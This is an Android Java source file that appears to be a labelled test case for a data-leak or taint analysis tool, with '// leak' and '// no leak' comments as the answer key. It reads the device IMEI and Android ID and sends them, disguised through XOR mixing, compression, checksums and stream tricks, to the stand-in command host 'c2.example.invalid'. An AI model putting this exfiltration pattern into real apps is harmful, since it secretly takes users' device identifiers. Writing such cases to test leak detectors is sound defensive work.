package robbers;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.InputStream;
import java.io.PipedInputStream;
import java.io.PipedOutputStream;
import java.io.SequenceInputStream;
import java.net.Socket;
import java.security.MessageDigest;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.Inflater;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import javax.net.ssl.SSLSocketFactory;

/** Turned, packed, mixed and masked before it goes. */
public class Native extends Activity {
    private static final int[] TABLE = new int[256];

    static {
        for (int i = 0; i < TABLE.length; i++) {
            TABLE[i] = i ^ 0x5a;
        }
    }

    protected void onResume() {
        super.onResume();
        final TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        new Thread() {
            public void run() {
                try {
                    all(phone.getDeviceId(), Settings.Secure.getString(getContentResolver(), "android_id"));
                } catch (Exception e) {
                    finish();
                }
            }
        }.start();
    }

    private void all(String imei, String id) throws Exception {
        Socket line = SSLSocketFactory.getDefault().createSocket("c2.example.invalid", 443);
        DataOutputStream out = new DataOutputStream(line.getOutputStream());
        byte[] plain = imei.getBytes();
        byte[] mixed = new byte[plain.length];
        for (int i = 0; i < plain.length; i++) {
            mixed[i] = (byte) TABLE[plain[i] & 0xff];
        }
        out.writeInt(mixed.length); // no leak
        out.write(mixed); // leak
        Deflater packer = new Deflater();
        packer.setInput(id.getBytes());
        packer.finish();
        byte[] packed = new byte[256];
        int size = packer.deflate(packed);
        out.writeShort(size); // no leak
        out.write(packed, 0, size); // leak
        CRC32 sum = new CRC32();
        sum.update(plain);
        out.writeLong(sum.getValue()); // leak
        Mac mac = Mac.getInstance("HmacSHA1");
        mac.init(new SecretKeySpec(imei.getBytes(), "HmacSHA1"));
        out.write(mac.doFinal("nonce".getBytes())); // one that is not seen: the data is the key
        MessageDigest digest = MessageDigest.getInstance("SHA-1");
        digest.update(id.getBytes());
        digest.reset();
        digest.update((byte) 1);
        out.write(digest.digest()); // no leak
        InputStream both = new SequenceInputStream(new ByteArrayInputStream("head".getBytes()), new ByteArrayInputStream(imei.getBytes()));
        byte[] part = new byte[64];
        for (int n = both.read(part); n > 0; n = both.read(part)) {
            out.write(part, 0, n); // leak
        }
        PipedOutputStream from = new PipedOutputStream();
        PipedInputStream to = new PipedInputStream(from);
        from.write(id.getBytes());
        out.write(to.read()); // leak
        ByteArrayOutputStream kept = new ByteArrayOutputStream();
        new DataOutputStream(kept).writeUTF(imei);
        DataInputStream again = new DataInputStream(new ByteArrayInputStream(kept.toByteArray()));
        out.writeUTF(again.readUTF()); // leak
        Inflater open = new Inflater();
        open.setInput("x".getBytes());
        out.writeInt(open.inflate(part)); // no leak
        Log.i("done", "ok"); // no leak
    }

    protected void onCreate(Bundle state) {
        super.onCreate(state);
    }
}
